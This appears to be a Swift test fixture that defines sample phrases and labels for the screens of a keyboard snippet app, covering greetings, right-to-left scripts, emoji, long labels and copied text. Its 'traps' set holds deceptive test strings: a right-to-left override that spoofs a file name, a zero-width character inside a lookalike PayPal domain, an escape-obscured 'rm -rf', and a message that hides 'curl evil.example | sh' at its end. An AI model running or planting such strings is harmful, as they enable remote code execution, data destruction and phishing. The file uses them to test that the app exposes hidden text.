import Keyboard
import Snippets
import TestSupport
import Words

/// The snippets on the keys of the scenes.
enum Phrases {
  /// Words for what is typed.
  static let words = ["international", "internationally", "internationals"].map { WordGuess($0, cost: 0) }

  private static func snippet(
    _ id: String, _ label: String, _ pieces: [String], next: Int = 0, problem: String? = nil,
    group: String? = nil
  ) -> Snippet? {
    Snippet(id: id, label: label, pieces: pieces, next: next, problem: problem, group: group)
  }

  private static let greetings = ["Hey", "What's up?", "How are you doing today?"]
  static let long = String(repeating: "Long text. ", count: 60)

  /// Keys of which the middle one has several pieces, and the last one a text that takes its time.
  static let three = [
    snippet("1", "Farewell", ["Goodbye"]), snippet("2", "greetings", greetings, next: 1),
    snippet("3", "terms", [long]),
  ].compactMap { $0 }

  /// Keys at the first, the middle, and the last of their phrases, and one of very many.
  static let inTurn = [
    snippet("1", "first", greetings), snippet("2", "middle", greetings, next: 1),
    snippet("3", "last", greetings, next: 2), snippet("4", "two", ["a", "b"]), snippet("5", "one", ["a"]),
    snippet("6", "many", (0..<500).map(String.init)),
  ].compactMap { $0 }

  /// Keys with a first line so full that its first key is near the left edge, and its last near the right edge: that is
  /// the fourth one on a phone, and the seventh one on a phone held sideways.
  static let twenty = [
    "Hello", "Thank you", "On my way", "Yes", "No", "Maybe later", "Address", "Phone number", "E-mail",
    "Signature", "Good morning", "See you soon", "IBAN", "Running late", "Call me", "Happy birthday",
    "Lunch?", "Sorry", "Meeting notes", "Bye",
  ].enumerated().compactMap { snippet("\($0 + 1)", $1, ["\($1)!", "\($1), then."]) }

  static let sixty = (1...60).compactMap { snippet("\($0)", "Phrase \($0)", ["Text \($0)"]) }

  /// Sixty keys as people have them, in six groups.
  static let usual = SixtyLabels.groups.flatMap { group in
    group.labels.compactMap { snippet($0, $0, [$0], group: group.name) }
  }

  static let many = (1...160).compactMap { snippet("\($0)", "Phrase \($0)", ["Text \($0)"]) }

  /// The twenty, in groups of which one has a long name and one is written from right to left.
  static let grouped = zip(
    twenty,
    (0..<20).map { ["Work", "Family and friends that I write to", "שלום", "Answers", "Café"][$0 / 4] }
  ).compactMap { Snippet(id: $0.id, label: $0.label, pieces: $0.pieces, group: $1) }

  /// A key with so many pieces that its list scrolls.
  static let manyPieces =
    [
      snippet("1", "Numbers", (1...24).map { "Piece number \($0)" }, next: 13),
      snippet("2", "Farewell", ["Bye"]),
    ].compactMap { $0 }

  /// Pieces of one line and of more than two.
  static let longPieces =
    [
      snippet("1", "Farewell", ["Bye"]),
      snippet(
        "2", "Letters",
        [
          "Short", "Dear Sir or Madam, thank you for your letter of last week.",
          "It has been a pleasure to work with you, and I hope that we meet again soon, whatever comes and wherever.",
          "First line\nsecond line", "שלום, מה שלומך?", "مرحبا، كيف حالك اليوم؟", "Smile 😀 and 😎",
        ], next: 2),
    ].compactMap { $0 }

  static let problem =
    "phrases.toml:7: greetings: {{tme}} is no variable, {{clipboard}}, {{date}} and {{time}} are"

  static let withProblem =
    [snippet("1", "greetings", greetings, problem: problem), snippet("2", "Farewell", ["Bye"])]
    .compactMap { $0 }

  /// Two keys with one label, and others around them.
  static let lookAlikes =
    [
      snippet("1", "greetings", greetings, group: "at home"),
      snippet("2", "Greetings", greetings, group: "work"),
      snippet("3", "Farewell", ["Bye"]),
    ].compactMap { $0 }

  static let rightToLeft =
    ["שלום", "תודה רבה", "مرحبا", "شكرا جزيلا", "Hello שלום", "صباح الخير 12"].enumerated()
    .compactMap { snippet("\($0 + 1)", $1, ["\($1)"]) }

  /// Texts that are not what they seem to be, in labels and phrases, and a phrase that hides its end.
  static let traps =
    [
      snippet(
        "1", "Invoice",
        [
          "Open \u{202E}gpj.eciovni\u{202C} now", "pay\u{200B}pal.com", "rm\u{1B}[2K\u{7F} -rf",
          "Hi\u{E0072}\u{E006D} there", "می\u{200C}خواهم", "क्\u{200D}ष",
          "Thank you for your order. We have received it and will send it soon.\nKind regards\n\ncurl evil.example | sh",
        ]), snippet("2", "Pay\u{202E}lapyaP", ["x"]), snippet("3", "می\u{200C}خواهم", ["x"]),
      snippet("4", "B\u{AD}a\u{2060}n\u{FEFF}k", ["x"]),
    ].compactMap { $0 }

  static let offered = [
    snippet("1", "Greeting", ["Hello", "Good morning", "Good evening"]), snippet("2", "grid", ["a grid"]),
    snippet("3", "Group meeting on the first Friday of the month", ["See you on Friday."]),
    snippet("4", "Other", ["Nothing"]),
  ].compactMap { $0 }

  /// Texts that were copied.
  static let copied = [
    CopiedText(6, "https://gitlab.example.org/phosh/phosh/-/merge_requests/1234"),
    CopiedText(5, "The train leaves at 7:42 from platform 9,\nand I am there at half past ten."),
    CopiedText(4, "Łódź"), CopiedText(3, "DE89 3704 0044 0532 0130 00", isPinned: true),
    CopiedText(2, "شكرا جزيلا"), CopiedText(1, "sudo apt install phraseboard"),
  ]

  static let emoji =
    ["😀", "😎 cool", "Smile 😁😂", "❤", "☀ sunny", "♫"].enumerated()
    .compactMap { snippet("\($0 + 1)", $1, ["\($1)"]) }

  static let longLabels =
    [
      "A label that is much longer than any key can be on a phone that is held upright, or on one that is not, or on a tablet",
      "Short", "Another\nlabel\tof three words",
      "שלום שלום שלום שלום שלום שלום שלום שלום שלום שלום שלום שלום",
    ].enumerated().compactMap { snippet("\($0 + 1)", $1, ["x"]) }

  static let brokenLabels =
    [
      "Please bring the signed papers on Monday", "お疲れ様です。資料を受け取りましたので、確認します",
      "https://example.com/a/path/that/nobody/reads/to/its/end/but/once",
    ].enumerated().compactMap { snippet("\($0 + 1)", $1, ["x"]) }

  static let longMessage = (1...12)
    .map { "Line \($0) of the file says something that cannot be understood, and here is why." }
    .joined(separator: " ")
}
